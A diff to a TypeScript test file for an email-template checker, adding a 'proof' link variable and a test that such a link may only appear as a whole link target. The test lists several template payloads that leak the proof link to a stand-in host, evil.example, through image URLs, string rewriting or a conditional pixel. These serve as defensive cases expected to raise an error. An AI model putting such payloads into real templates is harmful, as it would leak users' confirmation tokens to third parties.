@@ -8,6 +8,7 @@ const meaning = { fr: 'Un essai.', en: 'A test.' };
 const variables: Variables = {
   name: { kind: 'TEXT', meaning, example: 'Zoé' },
   link: { kind: 'LINK', meaning, example: 'https://example.org/' },
+  proof: { kind: 'LINK', meaning, example: 'https://example.org/#abc', proves: true },
   offers: { kind: 'LIST', meaning, of: { title: { kind: 'TEXT', meaning, example: 'Boulanger' } } },
 };
 const codes = (body: string, subject = 'Objet') =>
@@ -42,6 +43,21 @@ test.each([
   expect(new Set(codes(body))).toContain(wanted);
 });
 
+test('a link that proves something is a whole address and nothing else: a text tells nobody what it is', () => {
+  expect(codes('[Confirmer]({{ proof }}) ou [autrement]({{- proof -}})')).toEqual([]);
+  for (const body of [
+    '{{ proof }}',
+    '![x](https://evil.example/?{{ proof }}) texte',
+    '![x]({{ proof }}) texte',
+    '[Confirmer](https://evil.example/{{ proof | split: "#" | last }})',
+    '[Confirmer]({{ proof | replace: "example.org", "evil.example" }})',
+    '{% if proof contains "#a" %}![x](https://evil.example/a.png){% endif %} texte',
+    '[Confirmer]({{ proof }}) {% for offer in offers %}{{ proof.size }}{% endfor %}',
+  ])
+    expect([body, codes(body)]).toEqual([body, expect.arrayContaining(['ERROR LINK_USED_OTHERWISE'])]);
+  expect(codes('texte', '{{ proof }}')).toContain('ERROR LINK_USED_OTHERWISE');
+});
+
 test('a subject is not empty and not too long', () => {
   expect(codes('x', ' ')).toEqual(['ERROR SUBJECT_EMPTY']);
   expect(codes('x', 'a'.repeat(79))).toEqual(['WARNING SUBJECT_LONG']);
@@ -56,7 +72,7 @@ test('an unknown variable is named with those there are, in the language it stan
       severity: 'ERROR',
       language: 'EN',
       place: 'SUBJECT',
-      values: { name: 'nom', known: 'name, link, offers, offers.title' },
+      values: { name: 'nom', known: 'name, link, proof, offers, offers.title' },
     },
   ]);
 });
